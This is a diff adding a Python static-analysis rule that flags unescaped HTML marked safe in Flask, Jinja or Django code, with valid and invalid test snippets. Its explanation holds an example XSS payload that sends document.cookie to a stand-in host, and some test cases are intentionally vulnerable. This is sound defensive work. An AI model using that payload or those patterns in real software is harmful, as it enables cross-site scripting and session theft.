@@ -1,0 +1,87 @@
+"""TG109: text marked as safe HTML although it contains user data or formatted values."""
+
+from __future__ import annotations
+
+import ast
+
+from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection._strings import built_string, formatted_pieces, raised
+
+_MARK_SAFE = frozenset(
+    {
+        "markupsafe.Markup", "flask.Markup", "jinja2.Markup", "jinja2.utils.Markup", "django.utils.safestring.mark_safe",
+        "django.utils.safestring.SafeString", "django.utils.safestring.SafeText", "django.utils.html.format_html",
+        "django.utils.html.mark_safe", "django.template.defaultfilters.safe",
+    }
+)
+
+_ESCAPERS = frozenset({"escape", "conditional_escape", "escape_html", "clean", "int", "len", "urlencode", "quote"})
+
+
+def _all_escaped(built: ast.expr, ctx) -> bool:
+    """Every value interpolated into `built` went through an HTML escaping call."""
+    parts = formatted_pieces(built)
+    values = [p for p in parts or () if not isinstance(p, str)]
+    return bool(values) and all(
+        isinstance(v, ast.Call) and (ctx.call_name(v) or "").rsplit(".", 1)[-1] in _ESCAPERS for v in values
+    )
+
+
+class UnsafeMarkup(Rule):
+    id = "TG109"
+    name = "unescaped-markup"
+    severity = "medium"
+    confidence = "high"
+    cwe = (79,)
+    owasp = "A05:2025"
+    message = "`{callee}` marks {what} as safe HTML"
+    placeholders = {"callee": "Markup", "what": "formatted text"}
+    aliases = ("B703", "B308", "S308")
+    what = (
+        "`{callee}` tells the template engine that its argument is already-escaped HTML, but the argument "
+        "is {what}; auto-escaping is switched off for it."
+    )
+    why = (
+        "A comment, user name or query parameter such as `<img src=x onerror=fetch('//evil.test?c='+document.cookie)>` "
+        "is sent to the browser as markup and runs as script in every visitor's session: stored or "
+        "reflected XSS. `Markup(f\"<b>{{name}}</b>\")` escapes nothing; `Markup(\"<b>{{}}</b>\").format(name)` does."
+    )
+    how = (
+        "Let the template escape values, or build markup with the escaping helpers: "
+        "`Markup(\"<b>{{}}</b>\").format(name)`, `format_html(\"<b>{{}}</b>\", name)` in Django; sanitise "
+        "rich text with an HTML sanitiser (e.g. `nh3.clean`) before marking it safe."
+    )
+    example = 'Markup("<b>{}</b>").format(name)\nformat_html("<a href=\\"{}\\">{}</a>", url, label)'
+    references = (
+        "https://cwe.mitre.org/data/definitions/79.html",
+        "https://markupsafe.palletsprojects.com/en/stable/escaping/",
+        "https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html",
+    )
+    VALID = (
+        'from markupsafe import Markup\ndef f(name):\n    return Markup("<b>{}</b>").format(name)\n',
+        'from django.utils.html import format_html\ndef f(url, label):\n    return format_html("<a href=\\"{}\\">{}</a>", url, label)\n',
+        'from markupsafe import Markup\nICON = Markup("<svg></svg>")\n',
+        'from django.utils.safestring import mark_safe\ndef f(html):\n    return mark_safe(html)\n',
+        'from markupsafe import Markup, escape\ndef f(name):\n    return Markup(f"<b>{escape(name)}</b>")\n',
+    )
+    INVALID = (
+        Invalid('from markupsafe import Markup\ndef f(name):\n    return Markup(f"<b>{name}</b>")\n'),
+        Invalid(
+            'from django.utils.safestring import mark_safe\ndef view(request):\n'
+            '    return mark_safe(request.GET["bio"])\n'
+        ),
+        Invalid('from django.utils.html import format_html\ndef f(c):\n    return format_html("<i>%s</i>" % c)\n'),
+    )
+
+    def visit_Call(self, node: ast.Call, ctx) -> None:
+        callee = ctx.call_name(node) or ""
+        if callee not in _MARK_SAFE or not node.args:
+            return
+        html = node.args[0]
+        source = ctx.taint(html)
+        built = built_string(html, ctx)
+        if source is None and (built is None or _all_escaped(built, ctx)):
+            return
+        what = f"user input ({source.label})" if source else "text built by string formatting"
+        ctx.report(self, node, details={"callee": callee.split(".")[-1], "what": what}, source=source,
+                   severity=raised(self, source))
